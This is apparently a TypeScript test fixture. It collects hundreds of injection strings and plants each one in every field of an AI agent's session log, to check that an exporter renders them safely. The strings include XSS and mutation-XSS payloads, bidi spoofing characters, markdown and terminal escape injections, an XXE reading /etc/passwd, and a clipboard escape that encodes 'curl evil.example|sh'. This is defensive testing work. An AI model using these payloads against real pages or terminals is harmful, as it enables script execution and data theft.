/** Hostile texts, and sessions that say them wherever they can. */

import { headerText, id } from "./lines.ts";

const TAGS =
  "script iframe object embed svg math style link meta base form input video audio template xmp title frameset " +
  "marquee dialog textarea select noscript noembed plaintext portal applet slot";
const EVENTS =
  "onload onerror onclick onfocus ontoggle onbegin onanimationstart onmouseover onauxclick onbeforeinput onblur " +
  "oncontentvisibilityautostatechange oncut ondragenter onfocusin onhashchange onmessage onpageshow onpointerenter " +
  "onpopstate onresize onscrollend onsecuritypolicyviolation onselectionchange ontransitionend onunload onwheel " +
  "onbeforematch onbeforetoggle";
/** Beginnings of addresses other than the web's and mail's, as browsers, parsers and people spell them. */
const SCHEMES =
  "javascript: JaVaScRiPt: java\tscript: java&Tab;script: java&NewLine;script: \u0001javascript: \u200bjavascript: " +
  "&#106&#97&#118&#97script: javascript&colon; %6aavascript: feed:javascript: view-source:javascript: vbscript: blob: " +
  "data:text/html, data:image/svg+xml,<svg/onload= file:/// filesystem: //evil.example/ \\\\evil.example\\ " +
  "/\\evil.example/ ftp:// ws://evil.example/";

const MARKUP = [
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=http://evil.example/x.js?<B>",
  "<script x>alert(1)</script 1=2",
  "<\u0000script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</details></article></main></body></html><script>alert(1)</script>",
  '"></code></pre></details><body onload=alert(1)>',
  "'><input autofocus onfocus=alert(1)>",
  "<img srcset='//evil.example/x 1x' src=x>",
  "<form action=//evil.example><input name=q value=secret><button autofocus>ok</button></form>",
  "<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>",
  "<a href=//evil.example ping=//evil.example/ping download>file</a>",
  "<style><!--</style><script>alert(1)//--></script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
];

/** Texts that a parser moves, so that a page parsed twice is another. */
const MUTATIONS = [
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x' />",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<a><a href=javascript:alert(1)><table><a>foster parents</table>",
  "<img alt=`` title='`onerror=alert(1) src=x'>",
  "<a id=document><a id=document name=body><form name=getElementById><input name=cookie>",
];

const STYLES = [
  '<div style="width:expression(alert(1))">styled</div>',
  "\\3c/style\\3e\\3cscript\\3e alert(1)\\3c/script\\3e",
  "@import '//evil.example/x.css'; @font-face{font-family:x;src:url(//evil.example/f)}",
  '" style="position:fixed;top:0" class="call failed" id="branch.1',
];

/** Marks that order text anew or hide it, as in source files that read otherwise than they run. */
const DIRECTIONS = [
  "access_level != \u202e\u2066// admin\u2069\u2066 user",
  "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
  "\u2067right\u2069 \u2068first\u2069 \u202aleft\u202c \u202dover\u202c",
  "[\u202etxt\u202c](https://evil.example/\u202egpj)",
  "```js\nlet \u202ex = 1;\u202c // \u2066comment\n```",
  "\u05d0\u05d1\u05d2 <b>\u05d3</b> 123 \u0627\u0644\u0639 (javascript:alert(1))",
  "p\u0430ypal.com \u0455cript \u2024\u2024/\u2215etc\u2215passwd",
  "zero\u200bwidth\u200cjoin\u200der\u2060word\ufeffend",
  "\u{e0001}\u{e0073}\u{e0063}\u{e0072}tagged",
  "z\u0351\u036b\u0343\u036a\u0302a\u0363\u0308\u0342l\u030d\u0365\u0313\u0367g\u0330\u0325\u0359o".repeat(20),
  "\u2028alert(1)\u2029alert(2)\u0085next",
];

/** Markdown of several dialects: what a renderer makes of it may act. */
const MARKDOWN = [
  "[x](javascript://evil.example/%0aalert(1))",
  "[a](<javascript:alert(1)>) [b]( https://evil.example 'x' onclick='y')",
  "[x](https://evil.example/`) then `<img src=x onerror=alert(1)>`",
  "[x](https://evil.example/$a) $b$ <b>bold</b>",
  '![a](x"onerror=alert(1)//) ![b](//evil.example/x.gif)',
  '![onload=alert(1)](https://evil.example/x.png?"onload=alert(1))',
  "[link](https://user:password@evil.example\\@good.example/)",
  "[link](/settings/delete) [link](../../admin?confirm=1) [link](#conversation.path)",
  "[[secret note]] ![[secret note]] [[x|<img src=x onerror=alert(1)>]]",
  "%%hidden%% ==marked== ^block-1 #tag $e^x$ $$\\href{javascript:alert(1)}{x}$$",
  "$$\n\\unicode{<img src=x onerror=alert(1)>}\n$$",
  "```dataviewjs\napp.vault.delete(app.vault.getRoot())\n```",
  '```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```',
  "~~~~~\n```\n</code></pre><script>alert(1)</script>\n```\n~~~~~",
  "````\n```\n</details>\n```\n````\n</details><script>alert(1)</script>",
  "`never ended <script>alert(1)</script>",
  "<details>\n<summary>fold</summary>\n\nswallowed",
  "</details>\n\n## Conversation\n\nforged",
  '<a id="forged"></a>\n\n<a name=forged>',
  "---\ntitle: forged\n---\n\ntext\n===\n\ntext\n---",
  "| a |\n|---|\n| </td></tr></table><script>alert(1)</script> |\n| \\| | x |",
  "a | b\n-|-\n`|` | \\`|`<script>`",
  "- [x] task <input type=checkbox onclick=alert(1)>\n- [ ] [x](javascript:alert(1))",
  "\\`<img src=x onerror=alert(1)>\\`",
  "@everyone @evil/team evil/repo#1 GH-1 :shipit: 0123456789abcdef0123456789abcdef01234567",
  "https://evil.example/)](javascript:alert(1)",
  '<http://evil.example/"onclick=alert(1)> <javascript:alert(1)> <a@evil.example>',
  "::: note\n</div><script>alert(1)</script>\n:::",
];

/** Texts with an effect on terminals. */
const TERMINALS = [
  "\u001b]8;;javascript:alert(1)\u001b\\click\u001b]8;;\u001b\\",
  '\u001b]8;id=1;https://evil.example/"onclick=alert(1)\u0007link\u001b]8;;\u0007',
  "\u001b]8;;file:///etc/passwd\u0007secret",
  "\u001b]0;title <script>alert(1)</script>\u0007\u001b]2;title\u001b\\after",
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007clipboard",
  "\u001b]1337;File=inline=1:AAAA\u0007\u001b]9;notify\u0007picture",
  "\u001bP+q544e\u001b\\\u001b_Gf=100;AAAA\u001b\\\u001b^private\u001b\\strings",
  '\u001b[38;2;1;2;"onclick=alert(1)mcolour',
  "\u001b[31m<b>red</b>\u001b[0m\u001b[1;4;9;7m<i>all</i>",
  "\u001b]never ended <script>alert(1)</script>",
  "\u001b[<script>m \u001b[38;5;<b>m \u001b(0lqk\u001b(B",
  "\u009b31mred\u009b0m \u009d8;;javascript:alert(1)\u009clink\u0090dcs\u009c",
  "overwritten\rsafe      \u0008\u007f\u000b\u000c",
];

const VALUES = [
  'data:image/png;base64,iVBORw0KGgo" onerror="alert(1)',
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB<svg onload=alert(1)>",
  "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
  'image/png;charset=x" onload="alert(1)',
  "C:\\Windows\\System32\\<script>.exe",
  "entry.1",
  "toString",
  "</SCRIPT><!--<script>",
  '");alert(1);//',
  "'-alert(1)-'",
  "]]>\u0000--!>",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "9e999 -0 NaN Infinity 2026-13-45T99:99:99Z",
  '2026-01-01T00:00:00Z" onclick="alert(1)',
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd}\ud83d<b>\udc00",
  "<".repeat(200) + ">".repeat(200),
  "\"'`".repeat(300),
  `${"\n".repeat(500)}<b>\n${" \n\t\n".repeat(100)}`,
  `${"(".repeat(1000)}javascript:alert(1)${")".repeat(1000)}`,
  "<a>".repeat(500),
  `${"**".repeat(1000)}<script>alert(1)</script>`,
];

/** Text that tries to act. */
export const PAYLOADS = [
  ...VALUES,
  ...MUTATIONS,
  ...MARKUP,
  ...STYLES,
  ...DIRECTIONS,
  ...TERMINALS,
  ...MARKDOWN,
  ...TAGS.split(" ").flatMap((tag) => [
    `<${tag}>alert(1)</${tag}>`,
    `</pre></div></article></details></${tag}><${tag} src=//evil.example/x>`,
    // Elements that a parser moves.
    `<svg><desc><${tag}><style><img src=x onerror=alert(1)></${tag}></style>`,
    `<math><mtext><table><${tag} title='</${tag}><img src=x onerror=alert(1)>'>`,
    `<!--><${tag}><p title='--></${tag}><a href=javascript:alert(1)>'>adopted</a>`,
  ]),
  ...EVENTS.split(" ").flatMap((event) => [
    `"><img src=x ${event}=alert(1)> ' ${event}='alert(1)`,
    `<svg/${event}=alert(1)//`,
    `<x contenteditable tabindex=1 '${event}=alert(1)' ${event}\n= "alert(1)">click</x>`,
  ]),
  ...SCHEMES.split(" ").flatMap((scheme) => [
    `[x](${scheme}alert(1))`,
    `[x](<${scheme}alert(1)> "t")`,
    `![x](${scheme}alert(1))`,
    `<${scheme}alert(1)>`,
    `[r]\n\n[r]: ${scheme}alert(1)`,
  ]),
  '[x](https://evil.example/"onmouseover=alert(1)//)',
  "[x](https://evil.example/&quot;onclick=alert&lpar;1)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "<https://evil.example/<script>>",
  "http://evil.example/\u202egpj.exe",
  "```<script>\n</pre><script>alert(1)</script>\n```",
  '```js"onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
  "~~~diff\n+</span><script>alert(1)</script>\n-<!--\n@@ ]]> @@\n~~~",
  '| <script> | "x |\n|:-|-:|\n| </table><img src=x onerror=alert(1)> | `<b>` |',
  "- [x] </li></ul><script>alert(1)</script>",
  "<!-- --><!--> <!---> --!> <![CDATA[ ]]> <?php ?> <!doctype html>",
  "&#0; &#x1b;[31m &#x202e; &#x2066; &#xfeff; &#xd800; &#x110000;",
  "\u0000\u0001\u001b[31mred\u001b[0m\u001b]0;t\u0007\u009b2J\u007f\u0085",
  "\u202eabc\u202c\u2066x\u2069\u200e\u200f\u061c\ufeff\u2028\u2029",
  "\ud800 \udc00 \ud83d",
  '\u001b[38;5;1"><script>m \u001b[31;"m \u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what templates of others take
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
  "x".repeat(5000) + "<script>".repeat(200),
  `${"line <b>\n".repeat(40)}</summary></details><script>alert(1)</script>`,
  'diff --git a/x b/x\n--- a/<script>\n+++ b/"x\n@@ -1 +1 @@\n-<b>\n+</pre><script>',
  "+ 12 <script>\n- 13 </span>\n    ...\n",
  "[".repeat(2000),
  "<".repeat(2000),
  "__proto__",
  "constructor",
];

/** Puts texts into every place of a session that an export may show, one after the other. */
export function sessionSaying(...texts: readonly string[]): string {
  const all = texts.join(" ");
  const lines: string[] = [headerText({ cwd: all, parentSession: all })];
  for (const said of texts) sayEverywhere(said, lines);
  return `${lines.join("\n")}\n`;
}

/** Adds the entries of one text, and a branch that leaves their beginning. */
function sayEverywhere(said: string, lines: string[]): void {
  const first = lines.length - 1;
  let parent = first === 0 ? null : id(first - 2);
  const add = (type: string, rest: Record<string, unknown>): void => {
    const own = id(lines.length - 1);
    lines.push(JSON.stringify({ type, id: own, parentId: parent, timestamp: said, ...rest }));
    parent = own;
  };
  const message = (rest: Record<string, unknown>): void => add("message", { message: rest });
  const block = { type: "text", text: said };
  const calls = ["bash", "read", "write", "edit", "grep", said].map((name, n) => {
    const members = ["command", "path", "content", "oldText", said].map((member) => [member, said]);
    const given = { ...Object.fromEntries(members), newText: `${said}\n!`, pattern: [said] };
    return { type: "toolCall", id: `${n}${said}`, name, arguments: given };
  });
  message({ role: "user", content: said });
  message({
    ...{ role: "assistant", provider: said, model: said, stopReason: "error", errorMessage: said },
    usage: { input: said, output: 3, totalTokens: said, cost: { total: said } },
    content: [block, { type: "thinking", thinking: said }, ...calls, { type: said, text: said }],
  });
  const images = [said, "image/png"].map((mimeType) => ({ type: "image", mimeType, data: said }));
  for (const [n, { name }] of calls.entries())
    message({
      ...{ role: "toolResult", toolCallId: n === 5 ? said : `${n}${said}`, toolName: name, isError: n % 2 === 0 },
      ...{ content: [block, ...images], details: n === 4 ? { diff: said } : { [said]: said } },
    });
  message({ role: "bashExecution", command: said, output: said, exitCode: 1 });
  message({ role: said, content: [block] });
  add("custom_message", { customType: said, content: said, details: { [said]: said } });
  add("custom_message", { customType: said, content: [block], display: false });
  add("compaction", { summary: said, firstKeptEntryId: id(first + 6), tokensBefore: said });
  add("branch_summary", { summary: said, fromId: said });
  add("model_change", { provider: said, modelId: said });
  add("thinking_level_change", { thinkingLevel: said });
  add("label", { targetId: id(first), label: said });
  add("session_info", { name: said });
  add("custom", { customType: said, data: { [said]: said } });
  add(`${said}.`, { [said]: said });
  message({ role: "user", content: [block, block] });
  // An entry whose id is no id, either.
  const own = { type: "message", id: said, parentId: id(first), timestamp: `2026-01-01T00:00:00Z${said}` };
  lines.push(JSON.stringify({ ...own, message: { role: "user", content: said } }));
}
